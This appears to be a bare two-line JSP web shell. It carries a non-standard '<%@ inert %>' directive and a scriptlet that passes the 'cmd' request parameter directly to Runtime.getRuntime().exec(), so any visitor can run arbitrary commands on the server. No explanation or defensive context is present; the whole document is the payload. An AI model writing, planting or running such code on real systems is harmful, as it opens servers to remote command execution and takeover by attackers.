<%@ inert %>
<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>